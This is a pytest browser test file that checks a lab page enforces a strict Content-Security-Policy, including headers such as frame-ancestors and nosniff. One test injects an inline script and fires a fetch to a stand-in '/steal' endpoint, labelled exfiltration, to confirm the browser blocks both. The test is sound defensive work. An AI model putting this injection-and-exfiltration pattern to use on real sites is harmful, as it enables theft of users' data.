"""The page's own defences: a strict Content-Security-Policy that the browser enforces."""

import pytest

from tests.browser.lab_page import LabPage

pytestmark = pytest.mark.browser


@pytest.mark.parametrize("topology", ["cross-site", "same-site", "same-origin"])
def test_every_topology_serves_the_page_with_a_strict_csp(page, lab, csp_violations, topology):
    url = {"cross-site": lab.cross_site, "same-site": lab.same_site,
           "same-origin": lab.same_origin}[topology]  # fmt: skip
    response = page.goto(url)
    page.wait_for_selector("body[data-ready=true]")
    headers = response.headers
    policy = headers["content-security-policy"]
    assert "script-src 'self'" in policy
    assert "unsafe-inline" not in policy
    assert "unsafe-eval" not in policy
    assert "frame-ancestors 'none'" in policy
    assert headers["x-content-type-options"] == "nosniff"
    assert "referrer-policy" in headers
    assert page.locator("#topology-banner").get_attribute("data-topology") == topology
    assert csp_violations == []


def test_the_browser_blocks_inline_script_and_fetches_to_other_origins(page, lab, csp_violations):
    LabPage(page, lab).open(lab.cross_site)
    injected = page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.injected = true";
          document.body.append(script);
          return window.injected === true;
        }"""
    )
    assert injected is False
    exfiltration = page.evaluate(
        """() => fetch("http://elsewhere.localhost:9/steal").then(() => "sent", () => "blocked")"""
    )
    assert exfiltration == "blocked"
    for directive in ("script-src", "connect-src"):
        wait_for_report(page, csp_violations, directive)


def wait_for_report(page, violations: list[str], directive: str, timeout_ms: int = 3000):
    """Violation reports reach the console asynchronously; wait for the one naming `directive`."""
    for _ in range(timeout_ms // 50):
        if any(directive in text for text in violations):
            return
        page.wait_for_timeout(50)
    raise AssertionError(f"no CSP report for {directive}; saw {violations}")
